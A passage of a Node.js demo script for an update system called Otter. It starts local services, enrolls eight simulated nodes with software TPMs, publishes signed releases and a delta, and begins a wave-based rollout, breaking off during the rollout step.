#!/usr/bin/env node
// `make demo`: runs the built api, delta-worker and scheduler on embedded defaults and tells the story of a
// rollout on one machine: a simulated fleet of 8 nodes, each its own `otter-agent run` process with its own
// software TPM (swtpm), is enrolled on release 1.0.0; release 1.1.0 is pushed, the delta-worker builds the
// 1.0.0 → 1.1.0 delta, and a rollout moves the fleet to it in three waves. One node's health check fails
// after its trial boot: it rolls back, the rollout pauses at its failure threshold, the operator excludes
// the node and resumes, the rollout completes. The demo drives the real `bin/otter` CLI and
// `bin/otter-agent` as child processes, exactly as an operator and a device would, and prints the
// rollout's timeline as it happens. The services log to <OTTER_DATA_DIR>/demo-logs/<app>.log, each node to
// <OTTER_DATA_DIR>/demo-logs/node-N.log.
//
//   OTTER_DATA_DIR   where everything lives (default ./.otter); the demo's own files go to <dir>/demo/
//   OTTER_PORT       api port (default 8080); the demo refuses to start if it is taken
//   REDIS_URL        Redis to use; unset: 127.0.0.1:6379 if a Redis answers there, else a redis-server child
//   OTTER_DEMO_EXIT  1: exit once the story is told (0 if every step passed) instead of serving until Ctrl-C
//   OTTER_DEMO_DIST_ROOT  run the build in <dir>/dist (with <dir>/package.json and node_modules) instead of
//                    this repository's dist/: for testing a scratch build; the CLIs run as `node <main.js>`
//
// Every run uses its own Redis key prefix (OTTER_QUEUE_PREFIX=otter-demo-<pid>-<random>) so it never meets
// another user of the same Redis, and removes its keys from that Redis when it stops. Re-running on the same
// data dir works: the images are generated from fixed seeds, so they are byte-identical every run; releases
// are immutable (a second push is refused with 409 RELEASE_DUPLICATE), so the demo lists what is published
// first, pushes only what is missing and reports the rest as "already published" once their sha256 matches
// the image just built. Each run enrolls a new fleet (new TPMs are new nodes) and labels it with its own
// `fleet=demo-<random>`, which its rollout selects: nodes of earlier runs stay enrolled but take no part.
import { spawn } from 'node:child_process';
import { createCipheriv, createHash, createPrivateKey, createPublicKey, randomBytes } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { basename, delimiter, dirname, isAbsolute, join, relative, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { setTimeout as sleep } from 'node:timers/promises';
import { ProcessGroup, ensureRedis, waitForHttp } from './lib/processes.mjs';
import { createRolloutTimeline, describeDownload, formatBytes } from './lib/rollout-timeline.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const env = process.env;
const distRoot = env.OTTER_DEMO_DIST_ROOT ? resolve(env.OTTER_DEMO_DIST_ROOT) : root;
const APPS = ['api', 'delta-worker', 'scheduler'];
const entry = (app) => join(distRoot, 'dist', 'apps', app, 'src', 'main.js');
const distLib = (lib) => import(pathToFileURL(join(distRoot, 'dist', 'libs', lib, 'src', 'index.js')).href);
const REQUIRED_BUILD = [...APPS, 'cli', 'agent'].map(entry);
/** What a simulated node needs besides Node: swtpm (with swtpm_setup's local CA) and tpm2-tools. */
const REQUIRED_TOOLS = ['swtpm', 'swtpm_setup', 'swtpm_localca', 'swtpm_ioctl', 'tpm2_startup', 'tpm2_quote'];

const HARDWARE = 'demo-board';
const BASE_VERSION = '1.0.0';
const NEXT_VERSION = '1.1.0';
const MIB = 1024 * 1024;
const IMAGE_BYTES = 8 * MIB;
/** Where 1.1.0 differs from 1.0.0: [offset, length] rewritten in place, then APPENDED_BYTES added. */
const CHANGED_REGIONS = [
  [0x1000, 4 * 1024],
  [MIB + 123 * 1024, 64 * 1024],
  [5 * MIB + 7, 16 * 1024],
];
const APPENDED_BYTES = 256 * 1024;
/** The PCR the (simulated) measured boot extends with the booted slot image's sha256. */
const BOOT_PCR = 9;

const FLEET_SIZE = 8;
/** Nodes enrolled at once: each enrollment is a few tpm2-tools calls and two CLI processes. */
const ENROLL_CONCURRENCY = 4;
const AGENT_POLL_SECONDS = 1;
const ROLLOUT_TICK_SECONDS = 1;
/** Three waves: a canary, then 3 nodes, then the rest. */
const WAVES = ['1', '3', '100%'];
/** 1 failed node of wave 2's 3 is 33%: at or above this the rollout pauses. */
const FAILURE_SHARE = '30%';
const BAD_NODE_WAVE = 1;
const FAULT = 'service otterd did not start: /dev/ttyS2: no such device (this board has a fault)';

const TOTAL_STEPS = 9;
const LOG_TAIL_LINES = 20;

const exitWhenDone = /^(1|true|yes)$/i.test(env.OTTER_DEMO_EXIT ?? '');
const tty = !!process.stdout.isTTY && !env.NO_COLOR;
const paint = (code) => (text) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);
const bold = paint(1);
const dim = paint(2);
const green = paint(32);
const red = paint(31);
const yellow = paint(33);
const cyan = paint(36);
const out = (line = '') => process.stdout.write(`${line}\n`);
const detail = (line = '') => out(`      ${line}`);
/** A path as the user would type it: relative to where they ran `make demo` when it is below it. */
const shown = (path) => {
  const rel = relative(process.cwd(), path);
  return rel && !rel.startsWith('..') && !isAbsolute(rel) ? rel : path;
};
const seconds = (ms) => `${(ms / 1000).toFixed(1)} s`;
const OTTER = tool('otter', 'cli');
const AGENT = tool('otter-agent', 'agent');
const sha256 = (bytes) => createHash('sha256').update(bytes).digest('hex');

/**
 * The value PCR 9 holds after a boot that measured only an image with this sha256: SHA-256(32 zero bytes ‖
 * digest), the reset value extended once (as `expectedPcrAfterBoot` in apps/agent/src/platform/measured-boot.ts).
 * A release carries it as its reference measurement; a node's TPM quote must show it.
 */
function pcrAfterBoot(imageSha256) {
  return sha256(Buffer.concat([Buffer.alloc(32), Buffer.from(imageSha256, 'hex')]));
}

/** A CLI of this repository: `bin/<name>`, or `node <main.js>` of the build in OTTER_DEMO_DIST_ROOT. */
function tool(name, app) {
  const bin = join(root, 'bin', name);
  return distRoot === root
    ? { command: bin, prefix: [], label: shown(bin) }
    : { command: process.execPath, prefix: [entry(app)], label: shown(bin) };
}

function fail(message) {
  process.stderr.write(`[demo] ${message}\n`);
  process.exit(1);
}

// ---- pre-flight: configuration the user can fix before anything starts --------------------------------

const dataDir = resolve(env.OTTER_DATA_DIR || '.otter');
const portText = env.OTTER_PORT || '8080';
const port = Number(portText);
if (!/^\d+$/.test(portText) || port < 1 || port > 65_535) {
  fail(`OTTER_PORT=${portText} is not a port number (1-65535)`);
}
const bindHost = env.OTTER_HOST || '127.0.0.1';
const clientHost = bindHost === '0.0.0.0' || bindHost === '::' ? '127.0.0.1' : bindHost;
const base = `http://${clientHost.includes(':') ? `[${clientHost}]` : clientHost}:${port}`;
const missing = REQUIRED_BUILD.filter((file) => !existsSync(file));
if (missing.length > 0) {
  fail(
    `not built: ${missing.map((f) => relative(root, f)).join(', ')} (run \`make demo\`, which builds first)`,
  );
}
const missingTools = REQUIRED_TOOLS.filter(
  (name) => !(env.PATH ?? '').split(delimiter).some((dir) => dir && existsSync(join(dir, name))),
);
if (missingTools.length > 0) {
  fail(
    `not found on PATH: ${missingTools.join(', ')}. The simulated nodes need swtpm and tpm2-tools ` +
      '(Debian: apt-get install swtpm swtpm-tools tpm2-tools; scripts/bootstrap.sh does it).',
  );
}
const portProblem = await checkPortFree(bindHost, port);
if (portProblem) {
  const other = port === 65_535 ? 8081 : port + 1;
  fail(
    portProblem === 'EADDRINUSE'
      ? `port ${port} on ${bindHost} is in use: OTTER_PORT=${port} is taken. Stop what listens there or ` +
          `pick another port, e.g. \`OTTER_PORT=${other} make demo\`.`
      : `cannot listen on ${bindHost}:${port} (${portProblem}): choose another OTTER_PORT (now ${port}), ` +
          `e.g. \`OTTER_PORT=${other} make demo\`.`,
  );
}

const runId = randomBytes(2).toString('hex');
const queuePrefix = `otter-demo-${process.pid}-${runId}`;
const fleetLabel = `fleet=demo-${runId}`;
const demoDir = join(dataDir, 'demo');
const fleetDir = join(demoDir, 'fleet');
/** The simulated TPM manufacturer: swtpm's local CA, which issues every node TPM's EK certificate. */
const manufacturerDir = join(demoDir, 'tpm-manufacturer');
/** The api's OTTER_TPM_CA_DIR: the manufacturer CA certificates it trusts for enrollment. */
const tpmTrustDir = join(demoDir, 'tpm-trust');
const logDir = join(dataDir, 'demo-logs');
const logFile = (app) => join(logDir, `${app}.log`);
mkdirSync(logDir, { recursive: true });
// A new fleet every run, from the same manufacturer: swtpm's local CA always names itself CN=swtpm-localca and
// numbers its certificates from 1, so a new one would repeat the serials of the TPMs an earlier run on this
// data dir enrolled, and Otter names an EK certificate by issuer + serial (one TPM, one node). The api starts
// trusting nobody and learns the CA in step 4.
for (const dir of [fleetDir, tpmTrustDir]) rmSync(dir, { recursive: true, force: true });
mkdirSync(tpmTrustDir, { recursive: true });

// ---- process lifecycle ---------------------------------------------------------------------------------

const group = new ProcessGroup({ graceMs: 10_000 });
const serviceEnv = {
  ...env,
  OTTER_DATA_DIR: dataDir,
  OTTER_PORT: String(port),
  OTTER_QUEUE_PREFIX: queuePrefix,
  OTTER_TPM_CA_DIR: tpmTrustDir,
  // The scheduler ticks running rollouts this often (default 10 s): waves move at demo speed.
  OTTER_ROLLOUT_TICK_SECONDS: String(ROLLOUT_TICK_SECONDS),
};
let redisStartedHere = false;
let storyDone = false;
let exiting = false;
/** Lines some service logged that a step waits for (see waitForLogLine). */
const logWatchers = [];
/** The fleet's software TPMs: swtpm daemonizes, so the process group does not own them. */
const tpms = [];
/** The rollout's timeline, printed as it happens (from step 6 on; `fleet` is enrolled in step 4). */
const timeline = createRolloutTimeline({
  api,
  nodeOf: (nodeId) => fleet.find((n) => n.id === nodeId),
  print: detail,
  paint: { bold, green, red, yellow },
  previousVersion: BASE_VERSION,
  pcr: BOOT_PCR,
});

/**
 * A log file the process group writes to line by line. Written synchronously so that the tail shown
 * after a failure holds everything the service said up to that moment. `onLine` sees each line without
 * the `[app] ` prefix.
 */
function logSink(app, onLine) {
  const fd = openSync(logFile(app), 'w');
  const prefix = `[${app}] `;
  return {
    write(text) {
      writeSync(fd, text);
      for (const watcher of [...logWatchers]) {
        if (watcher.app === app && watcher.pattern.test(text)) {
          logWatchers.splice(logWatchers.indexOf(watcher), 1);
          watcher.resolve();
        }
      }
      onLine?.(text.startsWith(prefix) ? text.slice(prefix.length).trimEnd() : text.trimEnd());
      return true;
    },
  };
}

function waitForLogLine(app, pattern, timeoutMs) {
  return new Promise((resolvePromise, reject) => {
    const watcher = {
      app,
      pattern,
      resolve: () => {
        clearTimeout(timer);
        resolvePromise();
      },
    };
    const timer = setTimeout(() => {
      logWatchers.splice(logWatchers.indexOf(watcher), 1);
      reject(new Error(`${app} did not log ${pattern} within ${seconds(timeoutMs)}`));
    }, timeoutMs);
    logWatchers.push(watcher);
  });
}

async function shutdown(code, reason) {
  if (exiting) return;
  exiting = true;
  if (reason) out(dim(`[demo] ${reason}: stopping every process`));
  timeline.stop();
  // Agents and services first (they may still talk to a TPM), then the TPMs.
  await group.stop();
  await Promise.all(tpms.map((tpm) => tpm.stop().catch(() => {})));
  await removeDemoKeys();
  process.exit(code);
}

for (const sig of ['SIGINT', 'SIGTERM']) {
  process.on(sig, () => {
    // A second Ctrl-C while waiting for graceful shutdown means "now".
    if (exiting) {
      out(`[demo] ${sig} again: killing every process`);
      group.kill();
      killTpms();
      process.exit(130);
    }
    void shutdown(storyDone ? 0 : 130, sig);
  });
}
// Last resort (an exception, process.exit): no swtpm daemon outlives the demo.
process.once('exit', killTpms);

function killTpms() {
  for (const tpm of tpms) {
    try {
      process.kill(Number(readFileSync(join(dirname(tpm.stateDir), 'swtpm.pid'), 'utf8').trim()), 'SIGKILL');
    } catch {
      // stopped already (its directory is gone) or never started
    }
  }
}

/** Resolves with a description of the first service or agent that exits on its own (never rejects). */
const serviceDied = group.unexpectedExit.then(
  ({ name, code, signal }) =>
    `${name} exited unexpectedly (${signal ? `signal ${signal}` : `exit code ${code}`})`,
);

/**
 * Everything the services keep in Redis (queues, device token ids) lives under this run's own prefix, so
 * nobody else uses it: deleting it once they stopped leaves the shared Redis as it was before the demo. A
 * Redis started by the demo is gone already.
 */
async function removeDemoKeys() {
  if (redisStartedHere || !serviceEnv.REDIS_URL) return;
  let Redis;
  try {
    ({ Redis } = await import('ioredis'));
  } catch {
    return;
  }
  const redis = new Redis(serviceEnv.REDIS_URL, {
    lazyConnect: true,
    maxRetriesPerRequest: 1,
    connectTimeout: 2_000,
  });
  redis.on('error', () => {});
  const removeAll = async () => {
    await redis.connect();
    for await (const keys of redis.scanStream({ match: `${queuePrefix}:*`, count: 1_000 })) {
      if (keys.length > 0) await redis.unlink(...keys);
    }
  };
  try {
    // Best effort: a few stale keys under a unique prefix harm nobody.
    await Promise.race([removeAll().catch(() => {}), sleep(5_000)]);
  } finally {
    redis.disconnect();
  }
}

// ---- child commands (the operator's and the device's view) ---------------------------------------------

/** The CLI finds the server in OTTER_SERVER and its token in $OTTER_DATA_DIR/admin-token, as on the server host. */
const cliEnv = () => {
  const e = { ...env, OTTER_SERVER: base, OTTER_DATA_DIR: dataDir };
  delete e.OTTER_TOKEN;
  return e;
};

/**
 * Runs one command and collects its stdout. Its stderr goes to the terminal when that is a TTY (so
 * progress bars draw) and is collected otherwise.
 */
function run(cli, args, { timeoutMs = 60_000, showStderr = tty } = {}) {
  return new Promise((resolvePromise) => {
    const child = spawn(cli.command, [...cli.prefix, ...args], {
      env: cliEnv(),
      cwd: process.cwd(),
      stdio: ['ignore', 'pipe', showStderr ? 'inherit' : 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => (stdout += chunk));
    child.stderr?.on('data', (chunk) => (stderr += chunk));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.once('error', (error) => {
      clearTimeout(timer);
      resolvePromise({ code: null, stdout, stderr: `${stderr}${error.message}\n` });
    });
    child.once('close', (code, signal) => {
      clearTimeout(timer);
      resolvePromise({ code, signal, stdout, stderr });
    });
  });
}

/** Runs a command that must succeed; its stdout, or a StepFailure naming the command and its error. */
async function runOk(cli, args, options = {}) {
  const result = await run(cli, args, { showStderr: false, ...options });
  if (result.code !== 0) {
    throw new StepFailure(
      `${commandLine(cli, args)} failed (${result.signal ? `signal ${result.signal}` : `exit code ${result.code}`}):\n` +
        result.stderr.trim(),
    );
  }
  return result.stdout;
}

const quote = (a) => (/^[\w./:@=%-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`);
const commandLine = (cli, args) => [cli.label, ...args.map(quote)].join(' ');

function showCommand(cli, args) {
  detail(`${dim('$')} ${cyan(commandLine(cli, args))}`);
}

/** Shows a command and what it printed (indented). */
async function showRun(cli, args, options) {
  showCommand(cli, args);
  const stdout = await runOk(cli, args, options);
  for (const line of stdout.trimEnd().split('\n')) if (line) detail(`  ${line}`);
  return stdout;
}

const adminToken = () => readFileSync(join(dataDir, 'admin-token'), 'utf8').trim();

/** One JSON request to the api with the admin token (the demo's own look at state the CLI also shows). */
async function api(path, { method = 'GET', body } = {}) {
  const res = await fetch(`${base}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${adminToken()}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    body: body === undefined ? undefined : JSON.stringify(body),
    signal: AbortSignal.timeout(15_000),
  });
  const text = await res.text();
  if (!res.ok) throw new StepFailure(`${method} ${path} answered ${res.status}: ${text}`);
  return JSON.parse(text);
}

// ---- the story -----------------------------------------------------------------------------------------

class StepFailure extends Error {
  constructor(message, logs = ['api']) {
    super(message);
    this.logs = logs;
  }
}

async function step(number, title, body) {
  out();
  out(bold(`[${number}/${TOTAL_STEPS}] ${title}`));
  const started = performance.now();
  const result = await Promise.race([
    body().then(
      (value) => ({ value }),
      (error) => ({ error }),
    ),
    serviceDied.then((died) => ({ error: new StepFailure(died, [died.split(' ')[0]]) })),
  ]);
  const took = seconds(performance.now() - started);
  if ('error' in result) {
    const { error } = result;
    timeline.flush();
    out(red(`  ✗ step ${number}/${TOTAL_STEPS} FAILED: ${title} (${took})`));
    for (const line of String(error instanceof Error ? error.message : error).split('\n')) detail(red(line));
    const logs = error instanceof StepFailure ? error.logs : ['api'];
    for (const app of logs) showLogTail(app);
    out();
    out(red(bold(`demo failed at step ${number}/${TOTAL_STEPS}: ${title}`)));
    await shutdown(1);
  }
  timeline.flush();
  out(green(`  ✓ step ${number}/${TOTAL_STEPS} OK: ${title} (${took})`));
  return result.value;
}

function showLogTail(app) {
  const file = logFile(app);
  if (!existsSync(file)) return;
  const lines = readFileSync(file, 'utf8').trimEnd().split('\n').slice(-LOG_TAIL_LINES);
  out();
  detail(`last ${lines.length} lines of ${shown(file)}:`);
  for (const line of lines) detail(dim(line.length > 400 ? `${line.slice(0, 400)}…` : line));
}

const storyStarted = performance.now();
out(
  bold(`Otter demo: a signed release rolled out to a fleet of ${FLEET_SIZE} TPM-backed nodes, wave by wave`),
);
out(dim(`data dir ${shown(dataDir)} · logs in ${shown(logDir)}/ · api ${base}`));

// 1. The server.
const serverInfo = await step(1, 'Start Otter: api, delta-worker and scheduler', async () => {
  let redisLog;
  const redisSink = () => (redisLog ??= logSink('redis'));
  const redisGiven = !!env.REDIS_URL;
  try {
    serviceEnv.REDIS_URL = await ensureRedis(group, env, { output: { write: (t) => redisSink().write(t) } });
  } catch (error) {
    throw new StepFailure(error.message, ['redis']);
  }
  redisStartedHere = group.children.some((c) => c.name === 'redis');
  detail(
    `Redis ${serviceEnv.REDIS_URL} (${
      redisGiven
        ? 'from REDIS_URL'
        : redisStartedHere
          ? 'started for the demo, nothing persisted'
          : 'already running'
    }), queue prefix ${queuePrefix}`,
  );

  // The api starts alone and the others wait for its health check: every process migrates the database at
  // boot, and on the embedded SQLite file only one may do so at a time.
  const started = performance.now();
  const api = group.start('api', process.execPath, [entry('api')], {
    env: serviceEnv,
    cwd: root,
    output: logSink('api'),
  });
  try {
    await waitForHttp(`${base}/health`, { process: api, accept: (s) => s === 200, timeoutMs: 60_000 });
  } catch (error) {
    throw new StepFailure(error.message, ['api']);
  }
  detail(`api        ${base}/health answers 200 (${seconds(performance.now() - started)})`);
  detail(
    `           trusts the TPM manufacturer CAs in ${shown(tpmTrustDir)} (OTTER_TPM_CA_DIR; empty until step 4, ` +
      're-read on SIGHUP)',
  );

  const workerReady = waitForLogLine('delta-worker', /delta-worker started/, 30_000);
  group.start('delta-worker', process.execPath, [entry('delta-worker')], {
    env: serviceEnv,
    cwd: root,
    output: logSink('delta-worker'),
  });
  group.start('scheduler', process.execPath, [entry('scheduler')], {
    env: serviceEnv,
    cwd: root,
    output: logSink('scheduler'),
  });
  try {
    await workerReady;
  } catch (error) {
    throw new StepFailure(error.message, ['delta-worker']);
  }
  detail('delta-worker connected to the delta-build queue');
  let resignEvery;
  try {
    resignEvery = await waitForResignSchedule(30_000);
  } catch (error) {
    throw new StepFailure(error.message, ['scheduler']);
  }
  detail(`scheduler  re-signs TUF metadata before it expires (job every ${resignEvery / 1000} s)`);
  detail(
    `           ticks running rollouts every ${ROLLOUT_TICK_SECONDS} s (OTTER_ROLLOUT_TICK_SECONDS; default 10)`,
  );

  const res = await fetch(`${base}/tuf/image/metadata/1.root.json`);
  if (res.status !== 200) throw new StepFailure(`GET /tuf/image/metadata/1.root.json answered ${res.status}`);
  const rootText = await res.text();
  const rootMeta = JSON.parse(rootText);
  const rootRole = rootMeta.signed.roles.root;
  const devKey = join(dataDir, 'keys', 'dev-root-key.pem');
  const devKeyId = existsSync(devKey) ? keyIdOfPem(readFileSync(devKey, 'utf8')) : undefined;
  const isDevRoot = devKeyId !== undefined && rootRole.keyids.includes(devKeyId);
  detail(
    `TUF root   version ${rootMeta.signed.version}, ${rootRole.threshold}-of-${rootRole.keyids.length} root key, ` +
      `expires ${rootMeta.signed.expires}`,
  );
  if (isDevRoot) {
    detail(
      yellow(
        `This is a DEVELOPMENT root: its only private key is ${shown(devKey)} (key id ${devKeyId.slice(0, 12)}…).`,
      ),
    );
    detail(yellow('Anyone who can read the data dir could sign updates. Production runs the offline root'));
    detail(yellow('ceremony instead (OTTER_ENV=production, docs/tuf.md).'));
  } else {
    detail('The root is not the development root: it was signed offline (root ceremony).');
  }
  return { rootText, isDevRoot, devKey };
});

// 2. The images.
const images = await step(2, `Build two ${HARDWARE} images and their measurements`, async () => {
  const dir = join(demoDir, 'images');
  mkdirSync(dir, { recursive: true });
  const v1 = seededBytes(`${HARDWARE}/${BASE_VERSION}`, IMAGE_BYTES);
  const v2 = Buffer.alloc(IMAGE_BYTES + APPENDED_BYTES);
  v1.copy(v2);
  const patch = seededBytes(
    `${HARDWARE}/${NEXT_VERSION}`,
    CHANGED_REGIONS.reduce((n, [, len]) => n + len, 0) + APPENDED_BYTES,
  );
  let used = 0;
  for (const [offset, length] of [...CHANGED_REGIONS, [IMAGE_BYTES, APPENDED_BYTES]]) {
    patch.copy(v2, offset, used, used + length);
    used += length;
  }
  const built = {};
  for (const [version, bytes] of [
    [BASE_VERSION, v1],
    [NEXT_VERSION, v2],
  ]) {
    const digest = sha256(bytes);
    const image = join(dir, `${HARDWARE}-${version}.img`);
    const measurements = join(dir, `${HARDWARE}-${version}.measurements.json`);
    writeFileSync(image, bytes);
    const pcr = pcrAfterBoot(digest);
    writeFileSync(measurements, `${JSON.stringify({ [BOOT_PCR]: pcr }, null, 2)}\n`);
    built[version] = { version, image, measurements, sha256: digest, pcr, length: bytes.length };
    detail(`${version}  ${shown(image)}  ${formatBytes(bytes.length)}  sha256 ${digest}`);
  }
  const changed = CHANGED_REGIONS.reduce((n, [, len]) => n + len, 0);
  detail(
    `${NEXT_VERSION} is ${BASE_VERSION} with ${CHANGED_REGIONS.length} regions rewritten (${formatBytes(changed)}) ` +
      `and ${formatBytes(APPENDED_BYTES)} appended; seeded, so every run builds the same bytes`,
  );
  detail(
    `measurements: ${shown(built[BASE_VERSION].measurements)} etc.: PCR ${BOOT_PCR} = SHA-256(32 zero bytes ‖ ` +
      `sha256 of the image),`,
  );
  detail(`the value a boot that measured only that image leaves; a node's TPM quote must show it`);
  return built;
});

// 3. The first release.
await step(3, `Publish the first release, ${BASE_VERSION}, with \`otter release push\``, async () => {
  detail(
    dim(
      `the CLI talks to OTTER_SERVER=${base} with the admin token the api wrote to ${shown(join(dataDir, 'admin-token'))}`,
    ),
  );
  return publish(images[BASE_VERSION]);
});

// 4. The fleet.
const fleet = await step(
  4,
  `Enroll a fleet of ${FLEET_SIZE} nodes on ${BASE_VERSION}, each with its own TPM, and start their agents`,
  async () => {
    mkdirSync(fleetDir, { recursive: true });
    const { startSoftwareTpm } = await distLib('tpm');
    // The first TPM creates the manufacturer CA; the others only get certificates from it.
    const started = performance.now();
    // Each one listed as soon as it runs, so that a failure or Ctrl-C half way stops those started.
    tpms.push(await startSoftwareTpm({ caDir: manufacturerDir }));
    await Promise.all(
      Array.from({ length: FLEET_SIZE - 1 }, async () =>
        tpms.push(await startSoftwareTpm({ caDir: manufacturerDir })),
      ),
    );
    detail(
      `${FLEET_SIZE} software TPMs (swtpm) in ${seconds(performance.now() - started)}, ports ` +
        `${tpms.map((t) => t.port).join(', ')}`,
    );
    detail(
      `each with an EK certificate from one simulated manufacturer CA (swtpm_localca, ${shown(manufacturerDir)})`,
    );
    for (const file of tpms[0].ca.certificateFiles) copyFileSync(file, join(tpmTrustDir, basename(file)));
    // The api reads its trusted CAs at boot and on SIGHUP, never per request: tell it, as an operator would.
    const reloaded = waitForLogLine(
      'api',
      /"certificates":[1-9]\d*,"msg":"TPM manufacturer CAs loaded"/,
      15_000,
    );
    process.kill(group.children.find((c) => c.name === 'api').child.pid, 'SIGHUP');
    await reloaded;
    detail(
      `Otter trusts that manufacturer: its root and intermediate certificates copied to ${shown(tpmTrustDir)}, ` +
        'the api told with SIGHUP',
    );

    // What every device is provisioned with: the two TUF roots it will trust from then on.
    const imageRoot = join(fleetDir, 'image-root.json');
    writeFileSync(imageRoot, serverInfo.rootText);
    const directorRoot = join(fleetDir, 'director-root.json');
    writeFileSync(directorRoot, `${JSON.stringify(await api('/api/v1/tuf/director/root'), null, 2)}\n`);
    detail(
      `every node is provisioned with the image repository's root (GET /tuf/image/metadata/1.root.json -> ` +
        `${shown(imageRoot)})`,
    );
    detail(`and the director's (GET /api/v1/tuf/director/root -> ${shown(directorRoot)})`);

    const nodes = tpms.map((tpm, i) => {
      const dir = join(fleetDir, `node-${i + 1}`);
      return {
        name: `node-${i + 1}`,
        tpm,
        dir,
        id: '',
        slotA: join(dir, 'slot-a.img'),
        slotB: join(dir, 'slot-b.img'),
        bootEnv: join(dir, 'bootenv.json'),
        fault: join(dir, 'fault'),
        events: [],
      };
    });
    out();
    detail(
      `Each node: enroll with its TPM (EK certificate, credential activation), an operator approves it, it ` +
        `enrolls again to get its identity, and it is labelled ${fleetLabel} (this run's fleet). node-1:`,
    );
    const enrollStarted = performance.now();
    await enroll(nodes[0], true);
    await mapLimit(nodes.slice(1), ENROLL_CONCURRENCY, (node) => enroll(node, false));
    detail(
      `node-2 … node-${FLEET_SIZE}: the same, ${ENROLL_CONCURRENCY} at a time; all ${FLEET_SIZE} active in ` +
        `${seconds(performance.now() - enrollStarted)}`,
    );
    const listed = JSON.parse(await runOk(OTTER, ['node', 'list', '--json'])).nodes ?? [];
    for (const node of nodes) {
      const row = listed.find((n) => n.id === node.id);
      if (!row || row.state !== 'active') {
        throw new StepFailure(
          `otter node list shows ${node.name} (${node.id}) as ${row?.state ?? 'missing'}`,
        );
      }
      detail(`${node.name}  ${node.id}  ${row.state}  TPM ${node.tpm.tcti}`);
    }

    out();
    detail(
      `Every node runs ${BASE_VERSION} from slot A (slot B empty) and the update daemon. After a trial boot ` +
        'its health check runs',
    );
    detail(
      '`test ! -e <node>/fault || { cat <node>/fault >&2; exit 1; }`: healthy unless the demo gives the board a fault.',
    );
    for (const node of nodes) {
      copyFileSync(images[BASE_VERSION].image, node.slotA);
      writeFileSync(node.slotB, '');
      const args = [
        'run',
        '--state-dir',
        shown(node.dir),
        '--root',
        shown(imageRoot),
        '--director-root',
        shown(directorRoot),
        '--slot-a',
        shown(node.slotA),
        '--slot-b',
        shown(node.slotB),
        '--boot-env',
        `file:${shown(node.bootEnv)}`,
        '--simulate',
        '--poll-interval',
        String(AGENT_POLL_SECONDS),
        '--health-command',
        `test ! -e ${shown(node.fault)} || { cat ${shown(node.fault)} >&2; exit 1; }`,
      ];
      if (node === nodes[0]) showCommand(AGENT, args);
      node.agent = group.start(node.name, AGENT.command, [...AGENT.prefix, ...args], {
        env: cliEnv(),
        cwd: process.cwd(),
        output: logSink(node.name, (line) => agentLine(node, line)),
      });
    }
    detail(
      `(and the same for node-2 … node-${FLEET_SIZE}; their output goes to ${shown(logDir)}/node-N.log)`,
    );
    // Up: the daemon provisioned its boot environment and the simulated bootloader booted slot A.
    await until(
      () => nodes.every((n) => readBootEnv(n)?.otter_booted_slot === 'a'),
      30_000,
      'every agent booted slot a',
      nodes.map((n) => n.name),
    );
    detail(
      green(
        `${FLEET_SIZE} agents up: booted slot a (${BASE_VERSION}), polling the director every ~${AGENT_POLL_SECONDS} s`,
      ),
    );
    return nodes;
  },
);

// 5. The second release and its delta.
const delta = await step(
  5,
  `Publish ${NEXT_VERSION}; the delta-worker builds the ${BASE_VERSION} → ${NEXT_VERSION} delta`,
  async () => {
    await publish(images[NEXT_VERSION]);
    detail(
      `a new release queues deltas to it from what the nodes run (${BASE_VERSION}) and recent releases; ` +
        'waiting for the build:',
    );
    const to = images[NEXT_VERSION];
    const args = ['delta', 'list', '--hardware', HARDWARE, '--json'];
    showCommand(OTTER, args);
    const started = performance.now();
    let build;
    for (;;) {
      // Versions name exactly these images: step 3 and the push above checked the server's sha256.
      build = JSON.parse(await runOk(OTTER, args)).deltas.find(
        (d) => d.from === BASE_VERSION && d.to === NEXT_VERSION,
      );
      if (build?.state === 'published') break;
      if (build && (build.state === 'failed' || build.state === 'too-large')) {
        throw new StepFailure(`the delta ${build.targetPath} is ${build.state}`, ['delta-worker']);
      }
      if (performance.now() - started > 120_000) {
        throw new StepFailure(
          `the delta ${BASE_VERSION} → ${NEXT_VERSION} is not published after 120 s ` +
            `(${build ? `${build.state}, ${build.progress}%` : 'no build recorded'})`,
          ['delta-worker', 'api'],
        );
      }
      await sleep(500);
    }
    await showRun(OTTER, ['delta', 'list', '--hardware', HARDWARE]);
    detail(
      green(
        `${build.targetPath}: ${formatBytes(build.patchBytes)} instead of ${formatBytes(to.length)} ` +
          `(${Math.round(build.saving * 100)}% smaller), signed into the image repository`,
      ),
    );
    await showRun(OTTER, ['release', 'list', '--hardware', HARDWARE]);
    return build;
  },
);

// 6. The rollout, up to its pause.
const rollout = await step(6, `Roll ${NEXT_VERSION} out to the fleet in three waves`, async () => {
  const args = [
    'rollout',
    'create',
    '--hardware',
    HARDWARE,
    '--version',
    NEXT_VERSION,
    '--label',
    fleetLabel,
    ...WAVES.flatMap((w) => ['--wave', w]),
    '--success',
    '100%',
    '--failure',
    FAILURE_SHARE,
    '--max-attestation-age',
    '10m',
    '--start',
  ];
  detail(
    `waves: ${WAVES.join(', ')} nodes (the last takes the rest); the next wave starts once every node of the ` +
      `current one has proven ${NEXT_VERSION};`,
  );
  detail(
    `the rollout pauses once ${FAILURE_SHARE} of a wave failed; a node is admitted only after a fresh passing ` +
      'attestation (under 10 min old)',
  );
  const stdout = await showRun(OTTER, args);
  const id = /^(\S+): running/m.exec(stdout)?.[1];
  if (!id) throw new StepFailure(`otter rollout create printed no running rollout: ${stdout.trim()}`);
  timeline.watch(id);
  const members = JSON.parse(await runOk(OTTER, ['rollout', 'nodes', id, '--json'])).nodes;
  const byId = new Map(fleet.map((n) => [n.id, n]));
  for (const m of members) {
    const node = byId.get(m.nodeId);
